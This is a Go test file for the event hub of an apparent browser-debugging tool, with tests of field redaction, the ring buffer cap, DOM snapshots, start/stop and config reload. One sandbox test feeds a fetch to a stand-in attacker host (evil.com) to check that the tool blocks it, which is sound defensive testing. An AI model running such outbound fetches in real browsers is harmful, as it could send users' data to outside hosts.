package hub

import (
	"context"
	"encoding/json"
	"testing"
	"time"

	"github.com/daibug/daibug/internal/config"
	"github.com/daibug/daibug/internal/event"
	"github.com/daibug/daibug/internal/tools"
)

func testConfig() *config.Config {
	cfg := config.Default()
	cfg.Hub.HTTPPort = 0
	cfg.Hub.WSPort = 0
	return cfg
}

func startTestHub(t *testing.T) *Hub {
	t.Helper()
	h := New(testConfig(), "", "", nil)
	if err := h.Start(context.Background()); err != nil {
		t.Fatalf("start: %v", err)
	}
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		defer cancel()
		h.Stop(ctx)
	})
	return h
}

// S1 — redacted login: a browser_event carrying a password field must be
// redacted before it lands in the ring or reaches subscribers.
func TestHub_RedactsSensitiveFieldsOnIngest(t *testing.T) {
	h := startTestHub(t)

	received := make(chan event.Event, 1)
	unsub := h.Subscribe(func(ev event.Event) { received <- ev })
	defer unsub()

	h.handleBrowserEvent(event.SourceBrowserNetwork, event.LevelInfo, event.Payload{
		"url":      "/login",
		"password": "hunter2",
	})

	select {
	case ev := <-received:
		if ev.Payload["password"] == "hunter2" {
			t.Fatalf("password was not redacted: %v", ev.Payload)
		}
	case <-time.After(time.Second):
		t.Fatal("event was not delivered to subscriber")
	}
}

// S6 — ring cap: pushing 600 synthetic events into a fresh hub leaves the
// last 500 in the ring, oldest-first.
func TestHub_RingCapAt500(t *testing.T) {
	h := startTestHub(t)

	for i := 0; i < 600; i++ {
		h.handleBrowserEvent(event.SourceBrowserConsole, event.LevelInfo, event.Payload{"index": i})
		// enqueue is synchronous per event via the ingestion channel, but
		// handleBrowserEvent itself just calls ingestEvent -> enqueue,
		// which blocks until processed.
	}

	out := h.queryEvents(tools.EventFilter{Limit: 500})
	if len(out) != 500 {
		t.Fatalf("len(out) = %d, want 500", len(out))
	}
	first, _ := out[0].Payload["index"].(int)
	last, _ := out[len(out)-1].Payload["index"].(int)
	if first != 100 {
		t.Errorf("first index = %d, want 100", first)
	}
	if last != 599 {
		t.Errorf("last index = %d, want 599", last)
	}
}

// S3 — command/response: snapshot_dom broadcasts a command and resolves on
// the first matching browser:dom event.
func TestHub_SnapshotDOMToolResolvesOnBrowserResponse(t *testing.T) {
	h := startTestHub(t)
	registry := h.Tools()

	resultCh := make(chan string, 1)
	go func() {
		resultCh <- registry.Call("snapshot_dom", json.RawMessage(`{"timeout":2000}`))
	}()

	time.Sleep(50 * time.Millisecond)
	h.handleBrowserEvent(event.SourceBrowserDOM, event.LevelInfo, event.Payload{
		"type":      "dom_snapshot",
		"nodeCount": float64(142),
		"snapshot":  "<html/>",
	})

	select {
	case out := <-resultCh:
		var parsed map[string]any
		if err := json.Unmarshal([]byte(out), &parsed); err != nil {
			t.Fatalf("unmarshal: %v", err)
		}
		if parsed["nodeCount"] != float64(142) {
			t.Errorf("nodeCount = %v, want 142", parsed["nodeCount"])
		}
	case <-time.After(3 * time.Second):
		t.Fatal("snapshot_dom did not resolve")
	}
}

// S4 — evaluation sandbox: a non-localhost fetch target must be rejected
// without ever broadcasting a command.
func TestHub_EvaluateInBrowserBlocksNonLocalTargets(t *testing.T) {
	h := startTestHub(t)
	registry := h.Tools()

	out := registry.Call("evaluate_in_browser", json.RawMessage(`{"expression":"fetch('https://evil.com/x')"}`))
	var parsed map[string]any
	json.Unmarshal([]byte(out), &parsed)
	if parsed["error"] == nil {
		t.Fatalf("expected sandbox violation error, got %s", out)
	}
}

func TestHub_StartTwiceFailsAlreadyStarted(t *testing.T) {
	h := startTestHub(t)
	if err := h.Start(context.Background()); err == nil {
		t.Fatal("expected error starting an already-started hub")
	}
}

func TestHub_StopBeforeStartFailsNotStarted(t *testing.T) {
	h := New(testConfig(), "", "", nil)
	if err := h.Stop(context.Background()); err == nil {
		t.Fatal("expected error stopping a hub that was never started")
	}
}

// A config reload must replace watch rules and the redactor without
// touching the ports already bound at startup.
func TestHub_ConfigReloadReplacesRulesAndRedactor(t *testing.T) {
	cfg := testConfig()
	cfg.Watch = []config.WatchRule{{Label: "old-rule", URLPattern: "/api/*"}}
	h := New(cfg, "", "", nil)
	if err := h.Start(context.Background()); err != nil {
		t.Fatalf("start: %v", err)
	}
	defer func() {
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		defer cancel()
		h.Stop(ctx)
	}()

	boundHTTP, boundWS := h.config().Hub.HTTPPort, h.config().Hub.WSPort
	if len(h.watchEngine.ListRules()) != 1 {
		t.Fatalf("expected 1 rule before reload, got %d", len(h.watchEngine.ListRules()))
	}

	newCfg := config.Default()
	newCfg.Watch = []config.WatchRule{{Label: "new-rule", URLPattern: "/v2/*"}}
	newCfg.Redact.Fields = []string{"password", "ssn"}
	h.onConfigReload(newCfg)

	rules := h.watchEngine.ListRules()
	if len(rules) != 1 || rules[0].Label != "new-rule" {
		t.Fatalf("expected only new-rule after reload, got %+v", rules)
	}
	if h.config().Hub.HTTPPort != boundHTTP || h.config().Hub.WSPort != boundWS {
		t.Fatalf("reload changed bound ports: got %d/%d, want %d/%d",
			h.config().Hub.HTTPPort, h.config().Hub.WSPort, boundHTTP, boundWS)
	}

	received := make(chan event.Event, 1)
	unsub := h.Subscribe(func(ev event.Event) { received <- ev })
	defer unsub()
	h.handleBrowserEvent(event.SourceBrowserNetwork, event.LevelInfo, event.Payload{"ssn": "123-45-6789"})
	select {
	case ev := <-received:
		if ev.Payload["ssn"] == "123-45-6789" {
			t.Fatalf("ssn was not redacted after reload: %v", ev.Payload)
		}
	case <-time.After(time.Second):
		t.Fatal("event was not delivered to subscriber")
	}
}
